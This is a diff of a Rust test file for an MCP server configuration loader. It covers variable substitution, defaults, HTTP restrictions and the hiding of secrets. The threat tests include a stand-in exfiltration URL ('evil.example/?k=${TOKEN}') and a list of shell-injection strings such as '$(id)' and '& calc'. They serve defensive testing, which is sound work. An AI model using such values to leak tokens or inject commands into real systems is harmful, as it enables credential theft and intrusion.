@@ -3,14 +3,27 @@
 use std::time::Duration;
 
 use serde_json::{Value, json};
-use switchboard_host::config::{Kind, Off, Plan, Problem, Reach, Restart, ServerConfig, Start};
+use switchboard_host::config::{Kind, Off, Problem, Restart, ServerConfig, Start};
+use switchboard_host::{ServerSpec, Transport};
+use switchboard_transport::http::client::Http;
+use switchboard_transport::stdio::Stdio;
 
 fn entry(value: Value) -> ServerConfig {
     serde_json::from_value(value).unwrap()
 }
 
-fn plan(value: Value) -> Plan {
-    entry(value).plan(&variables).unwrap()
+fn spec(value: Value) -> ServerSpec {
+    entry(value).resolve(&variables).unwrap()
+}
+
+fn stdio(spec: &ServerSpec) -> &Stdio {
+    let Transport::Stdio(stdio) = &spec.transport else { panic!("{spec:?}") };
+    stdio
+}
+
+fn http(spec: &ServerSpec) -> &Http {
+    let Transport::Http(http) = &spec.transport else { panic!("{spec:?}") };
+    http
 }
 
 fn variables(name: &str) -> Option<String> {
@@ -23,7 +36,7 @@ fn variables(name: &str) -> Option<String> {
 }
 
 fn problem(value: Value) -> (String, Problem) {
-    let fault = entry(value).plan(&variables).unwrap_err();
+    let fault = entry(value).resolve(&variables).unwrap_err();
     (fault.field().to_owned(), fault.problem().clone())
 }
 
@@ -48,42 +61,47 @@ fn all_five_types_are_read_and_the_type_may_be_left_out() {
 
 #[test]
 fn a_plan_has_variables_filled_in_everywhere_but_in_the_command() {
-    let plan = plan(json!({
+    let spec = spec(json!({
         "command": "${TOKEN}", "args": ["--at=${HOST}", "${NO:-d}"], "env": {"KEY": "x${TOKEN}"}, "cwd": "/srv/${HOST}",
     }));
-    let Reach::Stdio { command, args, env, cwd, .. } = &plan.reach else { panic!() };
-    assert_eq!(command, "${TOKEN}");
-    assert_eq!(args, &["--at=example.com", "d"]);
-    assert_eq!(env["KEY"].expose(), "xs3cr3t");
-    assert_eq!(cwd.as_deref().unwrap().to_str(), Some("/srv/example.com"));
+    let stdio = stdio(&spec);
+    assert_eq!(stdio.program(), "${TOKEN}");
+    assert_eq!(stdio.arguments(), ["--at=example.com", "d"]);
+    assert_eq!(stdio.variables(), [("KEY".into(), "xs3cr3t".into())]);
+    assert_eq!(stdio.directory().unwrap().to_str(), Some("/srv/example.com"));
 
-    let plan = self::plan(
+    let spec = self::spec(
         json!({"url": "https://${HOST}/mcp?k=${TOKEN}", "headers": {"Authorization": "Bearer ${TOKEN}"}}),
     );
-    let Reach::Http { url, headers, sse: false, allow_plain: false } = &plan.reach else { panic!() };
-    assert_eq!(url, "https://example.com/mcp?k=s3cr3t");
-    assert_eq!(headers["Authorization"].expose(), "Bearer s3cr3t");
+    let http = http(&spec);
+    assert!(!http.is_sse() && !http.allows_plain_http());
+    assert_eq!(http.url(), "https://example.com/mcp?k=s3cr3t");
+    assert_eq!(http.headers(), [("Authorization".into(), "Bearer s3cr3t".into())]);
 
-    let plan =
-        self::plan(json!({"type": "claudeai-proxy", "url": "https://${HOST}/v1/{id}/mcp", "id": "a/b"}));
-    assert_eq!(plan.reach, Reach::Proxy { url: "https://example.com/v1/a%2Fb/mcp".into(), id: "a/b".into() });
+    let spec =
+        self::spec(json!({"type": "claudeai-proxy", "url": "https://${HOST}/v1/{id}/mcp", "id": "a/b"}));
+    let proxy = Transport::Proxy { url: "https://example.com/v1/a%2Fb/mcp".into(), id: "a/b".into() };
+    assert_eq!(spec.transport, proxy);
 }
 
 #[test]
 fn settings_have_defaults_and_bounds() {
-    let bare = plan(json!({"command": "x"}));
+    let bare = spec(json!({"command": "x"}));
     assert_eq!(
-        (bare.start, bare.restart, bare.required, bare.startup, bare.call),
+        (bare.start, bare.restart, bare.required, bare.startup_timeout, bare.call_timeout),
         (Start::AtOnce, Restart::WithBackoff { most: 5 }, false, Duration::from_secs(60), None)
     );
-    let full = plan(json!({
+    let full = spec(json!({
         "command": "x", "required": true, "lazy": true, "timeout": 1500, "startupTimeout": 2000, "restart": "never",
         "allowTools": ["read_*"], "denyTools": ["*_all"],
     }));
     assert_eq!((full.start, full.restart, full.required), (Start::WhenUsed, Restart::Never, true));
-    assert_eq!((full.startup, full.call), (Duration::from_secs(2), Some(Duration::from_millis(1500))));
-    assert_eq!((full.allow, full.deny), (vec!["read_*".to_owned()], vec!["*_all".to_owned()]));
-    let off = plan(json!({"command": "x", "disabled": true, "lazy": true, "restart": 3}));
+    assert_eq!(
+        (full.startup_timeout, full.call_timeout),
+        (Duration::from_secs(2), Some(Duration::from_millis(1500)))
+    );
+    assert_eq!((full.allow_tools, full.deny_tools), (vec!["read_*".to_owned()], vec!["*_all".to_owned()]));
+    let off = spec(json!({"command": "x", "disabled": true, "lazy": true, "restart": 3}));
     assert_eq!((off.start, off.restart), (Start::Off(Off::Disabled), Restart::WithBackoff { most: 3 }));
 }
 
@@ -167,8 +185,8 @@ fn what_could_not_be_run_is_refused_before_it_is_tried() {
     ] {
         assert_eq!(problem(value.clone()).0, field, "{value}");
     }
-    plan(json!({"url": "http://127.0.0.1:8080/mcp"}));
-    plan(json!({"url": "http://example.com/mcp", "allowHttp": true}));
+    spec(json!({"url": "http://127.0.0.1:8080/mcp"}));
+    spec(json!({"url": "http://example.com/mcp", "allowHttp": true}));
 }
 
 #[test]
@@ -205,10 +223,10 @@ fn no_debug_text_or_error_shows_a_secret() {
     ];
     for value in written {
         let entry = entry(value);
-        let plan = entry.plan(&variables).unwrap();
-        let unapproved = entry.plan_unapproved();
+        let spec = entry.resolve(&variables).unwrap();
+        let unapproved = entry.unapproved();
         let ServerConfig { kind, .. } = &entry;
-        let text = format!("{entry:?} {entry:#?} {kind:?} {plan:?} {plan:#?} {unapproved:?}");
+        let text = format!("{entry:?} {entry:#?} {kind:?} {spec:?} {spec:#?} {unapproved:?}");
         assert!(!text.contains("s3cr3t"), "{text}");
     }
     for value in [
@@ -218,7 +236,7 @@ fn no_debug_text_or_error_shows_a_secret() {
         json!({"url": "https://h:${TOKEN}/"}),
         json!({"url": "https://h/", "headers": {"A": "s3cr3t\n"}}),
     ] {
-        let fault = entry(value).plan(&variables).unwrap_err();
+        let fault = entry(value).resolve(&variables).unwrap_err();
         assert!(!format!("{fault} {fault:?}").contains("s3cr3t"), "{fault}");
     }
 }
@@ -228,10 +246,10 @@ fn no_debug_text_or_error_shows_a_secret() {
 #[expect(non_snake_case, reason = "threats are tested under their ids")]
 fn T05_nothing_is_filled_in_before_approval_and_the_variables_are_named() {
     let entry = entry(json!({"url": "https://evil.example/?k=${TOKEN}", "headers": {"X": "${HOST:-h}"}}));
-    let plan = entry.plan_unapproved();
-    assert_eq!(plan.start, Start::Off(Off::Unapproved));
-    let Reach::Http { url, headers, .. } = &plan.reach else { panic!() };
-    assert_eq!((url.as_str(), headers["X"].expose()), ("https://evil.example/?k=${TOKEN}", "${HOST:-h}"));
+    let spec = entry.unapproved();
+    assert_eq!(spec.start, Start::Off(Off::Unapproved));
+    assert_eq!(http(&spec).url(), "https://evil.example/?k=${TOKEN}");
+    assert_eq!(http(&spec).headers(), [("X".into(), "${HOST:-h}".into())]);
     assert_eq!(entry.variables().into_iter().collect::<Vec<_>>(), ["HOST", "TOKEN"]);
 }
 
@@ -240,19 +258,18 @@ fn T05_nothing_is_filled_in_before_approval_and_the_variables_are_named() {
 #[expect(non_snake_case, reason = "threats are tested under their ids")]
 fn T07_arguments_are_a_list_and_reach_the_plan_as_they_are() {
     let hostile = ["& calc", "$(id)", "`id`", "a b", "\"", "'", "|", ";", "%PATH%", "--", "\n", ""];
-    let plan = plan(json!({"command": "x & y", "args": hostile}));
-    let Reach::Stdio { command, args, .. } = &plan.reach else { panic!() };
-    assert_eq!((command.as_str(), args.as_slice()), ("x & y", hostile.map(str::to_owned).as_slice()));
+    let spec = spec(json!({"command": "x & y", "args": hostile}));
+    assert_eq!(stdio(&spec).program(), "x & y");
+    assert_eq!(stdio(&spec).arguments(), hostile);
 }
 
 /// A server is given the variables its entry names, and no others.
 #[test]
 #[expect(non_snake_case, reason = "threats are tested under their ids")]
 fn T08_only_named_variables_are_in_the_plan() {
-    let plan = plan(json!({"command": "x", "env": {"A": "b"}, "inheritEnv": ["SSH_AUTH_SOCK"]}));
-    let Reach::Stdio { env, inherit_env, .. } = &plan.reach else { panic!() };
-    assert_eq!(env.keys().collect::<Vec<_>>(), ["A"]);
-    assert_eq!(inherit_env, &["SSH_AUTH_SOCK"]);
+    let spec = spec(json!({"command": "x", "env": {"A": "b"}, "inheritEnv": ["SSH_AUTH_SOCK"]}));
+    assert_eq!(stdio(&spec).variables(), [("A".into(), "b".into())]);
+    assert_eq!(stdio(&spec).inherited_variables(), ["SSH_AUTH_SOCK"]);
     let Kind::Stdio { inherit_env, .. } = ServerConfig::stdio("x", ["y"]).kind else { panic!() };
     assert!(inherit_env.is_empty());
 }
